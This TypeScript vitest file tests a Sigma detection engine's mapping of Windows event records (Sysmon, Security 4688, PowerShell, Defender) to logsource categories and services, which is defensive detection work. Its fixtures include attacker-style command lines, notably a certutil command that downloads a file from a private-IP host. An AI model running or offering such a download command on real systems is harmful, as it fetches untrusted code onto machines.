import { describe, expect, it } from "vitest";
import { inLogsource, sigmaEvent } from "../../src/sigma/logsource-membership.js";
import type { LogSource } from "../../src/sigma/rule.js";

/** Which raw records belong to which Windows logsource: the facts restated from the taxonomy. */

const SYSMON = "Microsoft-Windows-Sysmon/Operational";
const win = (category?: string, service?: string): LogSource => ({
  product: "windows",
  ...(category ? { category } : {}),
  ...(service ? { service } : {}),
});
const sysmonRecord = (EventID: number, extra: Record<string, unknown> = {}) => ({
  EventID,
  Channel: SYSMON,
  Provider_Name: "Microsoft-Windows-Sysmon",
  Computer: "ws01.corp.example",
  ...extra,
});

/** Sigma taxonomy appendix, "Windows Folder", categories table: category → Sysmon EventIDs. */
const TAXONOMY: readonly [string, readonly number[]][] = [
  ["process_creation", [1]],
  ["file_change", [2]],
  ["network_connection", [3]],
  ["sysmon_status", [4, 16]],
  ["process_termination", [5]],
  ["driver_load", [6]],
  ["image_load", [7]],
  ["create_remote_thread", [8]],
  ["raw_access_thread", [9]],
  ["process_access", [10]],
  ["file_event", [11]],
  ["registry_event", [12, 13, 14]],
  ["registry_set", [13]],
  ["registry_rename", [14]],
  ["create_stream_hash", [15]],
  ["pipe_created", [17, 18]],
  ["wmi_event", [19, 20, 21]],
  ["dns_query", [22]],
  ["file_delete", [23]],
  ["clipboard_capture", [24]],
  ["process_tampering", [25]],
  ["file_delete_detected", [26]],
  ["file_block_executable", [27]],
  ["file_block_shredding", [28]],
  ["file_executable_detected", [29]],
  ["sysmon_error", [255]],
];

describe("Windows logsource membership", () => {
  it("a Sysmon record belongs to exactly the categories the taxonomy gives its EventID", () => {
    const wrong: string[] = [];
    for (const [category, ids] of TAXONOMY)
      for (const id of ids)
        for (const [other, otherIds] of TAXONOMY) {
          const want = otherIds.includes(id);
          if (inLogsource(win(other), sysmonRecord(id)) !== want)
            wrong.push(`EventID ${id} (${category}) in ${other}: expected ${want}`);
        }
    expect(wrong).toEqual([]);
  });

  it("a Sysmon file event with process fields is not a process creation", () => {
    const fileEvent = sysmonRecord(11, {
      Image: "C:\\Windows\\System32\\cmd.exe",
      CommandLine: "cmd.exe /c whoami",
      TargetFilename: "C:\\Users\\Public\\a.bat",
    });
    expect(inLogsource(win("process_creation"), fileEvent)).toBe(false);
    expect(inLogsource(win("file_event"), fileEvent)).toBe(true);
  });

  it("process creation is Sysmon 1 or Security 4688, and nothing else with those numbers", () => {
    const security4688 = { EventID: 4688, Channel: "Security", NewProcessName: "C:\\x.exe" };
    expect(inLogsource(win("process_creation"), sysmonRecord(1))).toBe(true);
    expect(inLogsource(win("process_creation"), security4688)).toBe(true);
    // The service narrows: 4688 is not a Sysmon record, Sysmon 1 not a Security one.
    expect(inLogsource(win("process_creation", "sysmon"), security4688)).toBe(false);
    expect(inLogsource(win("process_creation", "security"), security4688)).toBe(true);
    expect(inLogsource(win("process_creation", "security"), sysmonRecord(1))).toBe(false);
    // EventID 1 of another channel, 4688 of another channel.
    expect(inLogsource(win("process_creation"), { EventID: 1, Channel: "System" })).toBe(false);
    expect(inLogsource(win("process_creation"), { EventID: 4688, Channel: SYSMON })).toBe(false);
  });

  it("registry_add and registry_delete are Sysmon 12 of their EventType", () => {
    const created = sysmonRecord(12, { EventType: "CreateKey" });
    const deletedKey = sysmonRecord(12, { EventType: "DeleteKey" });
    const deletedValue = sysmonRecord(12, { EventType: "DeleteValue" });
    expect(inLogsource(win("registry_add"), created)).toBe(true);
    expect(inLogsource(win("registry_delete"), created)).toBe(false);
    expect(inLogsource(win("registry_delete"), deletedKey)).toBe(true);
    expect(inLogsource(win("registry_delete"), deletedValue)).toBe(true);
    expect(inLogsource(win("registry_add"), deletedValue)).toBe(false);
    expect(inLogsource(win("registry_event"), created)).toBe(true);
    expect(inLogsource(win("registry_set"), created)).toBe(false);
  });

  it("PowerShell categories read their EventID in their own channels", () => {
    const block = (Channel: string, EventID = 4104) => ({ EventID, Channel });
    expect(inLogsource(win("ps_script"), block("Microsoft-Windows-PowerShell/Operational"))).toBe(
      true,
    );
    expect(inLogsource(win("ps_script"), block("PowerShellCore/Operational"))).toBe(true);
    expect(inLogsource(win("ps_script"), block("Windows PowerShell"))).toBe(false);
    expect(inLogsource(win("ps_module"), block("Microsoft-Windows-PowerShell/Operational"))).toBe(
      false,
    );
    expect(
      inLogsource(win("ps_module"), block("Microsoft-Windows-PowerShell/Operational", 4103)),
    ).toBe(true);
    expect(inLogsource(win("ps_classic_start"), block("Windows PowerShell", 400))).toBe(true);
    expect(inLogsource(win("ps_classic_start"), block("Windows PowerShell", 600))).toBe(false);
    expect(inLogsource(win("ps_classic_provider_start"), block("Windows PowerShell", 600))).toBe(
      true,
    );
    expect(
      inLogsource(win(undefined, "powershell-classic"), block("Windows PowerShell", 800)),
    ).toBe(true);
    expect(inLogsource(win(undefined, "powershell"), block("Windows PowerShell", 800))).toBe(false);
  });

  it("a service is its channels", () => {
    const security = { EventID: 4624, Channel: "Security", TargetUserName: "alice" };
    const system = { EventID: 7045, Channel: "System", ServiceName: "evil" };
    const defender = { EventID: 1116, Channel: "Microsoft-Windows-Windows Defender/Operational" };
    expect(inLogsource(win(undefined, "security"), security)).toBe(true);
    expect(inLogsource(win(undefined, "security"), system)).toBe(false);
    expect(inLogsource(win(undefined, "system"), system)).toBe(true);
    expect(inLogsource(win(undefined, "windefend"), defender)).toBe(true);
    expect(inLogsource(win(undefined, "sysmon"), defender)).toBe(false);
    expect(inLogsource(win(undefined, "sysmon"), sysmonRecord(22))).toBe(true);
  });

  it("only Windows records belong to product windows; unknown keys are not decided", () => {
    const audit = { kind: "Event", apiVersion: "audit.k8s.io/v1", verb: "create" };
    const linuxSysmon = { EventID: 1, Channel: "Linux-Sysmon/Operational", Image: "/bin/sh" };
    expect(inLogsource(win("process_creation"), audit)).toBe(false);
    expect(inLogsource(win(), audit)).toBe(false);
    expect(inLogsource(win("process_creation"), linuxSysmon)).toBe(false);
    expect(inLogsource(win(), { EventID: "4104", Channel: "PowerShellCore/Operational" })).toBe(
      true,
    );
    // file_access is an ETW provider in the taxonomy: any Windows record may belong to it.
    expect(inLogsource(win("file_access"), sysmonRecord(11))).toBe(true);
    expect(inLogsource(win(undefined, "no-such-service"), sysmonRecord(11))).toBe(true);
    // EventID given as text is read as the number Windows wrote.
    expect(inLogsource(win("dns_query"), sysmonRecord(22, { EventID: "22" }))).toBe(true);
    // Linux has its own table (linux-logsources.ts): a Windows Sysmon record is not a Linux event.
    expect(inLogsource({ product: "linux", category: "process_creation" }, sysmonRecord(1))).toBe(
      false,
    );
    // A product no table knows is not decided.
    expect(inLogsource({ product: "no-such-product" }, sysmonRecord(1))).toBe(true);
  });

  it("Kubernetes audit membership is unchanged", () => {
    const k8s = { product: "kubernetes", service: "audit" };
    expect(inLogsource(k8s, { kind: "Event", apiVersion: "audit.k8s.io/v1" })).toBe(true);
    expect(inLogsource(k8s, { kind: "Pod", apiVersion: "v1" })).toBe(false);
    expect(inLogsource(k8s, { verb: "get" })).toBe(true);
    expect(inLogsource(k8s, "text")).toBe(false);
  });
});

describe("the event as a rule of the logsource reads it", () => {
  const record4688 = {
    Channel: "Security",
    EventID: 4688,
    NewProcessName: "C:\\Windows\\System32\\certutil.exe",
    ParentProcessName: "C:\\Windows\\System32\\cmd.exe",
    CommandLine: "certutil -urlcache -f http://10.0.1.14/a a",
  };
  const pc = { product: "windows", category: "process_creation" };

  it("shows Security 4688's NewProcessName and ParentProcessName as Image and ParentImage", () => {
    expect(sigmaEvent(pc, record4688)).toMatchObject({
      Image: record4688.NewProcessName,
      ParentImage: record4688.ParentProcessName,
      NewProcessName: record4688.NewProcessName,
    });
  });

  it("leaves Sysmon records, other categories and other products as they are", () => {
    const sysmon1 = { Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1, Image: "a.exe" };
    expect(sigmaEvent(pc, sysmon1)).toBe(sysmon1);
    expect(sigmaEvent({ product: "windows", service: "security" }, record4688)).toBe(record4688);
    expect(sigmaEvent({ product: "linux", category: "process_creation" }, record4688)).toBe(
      record4688,
    );
  });
});
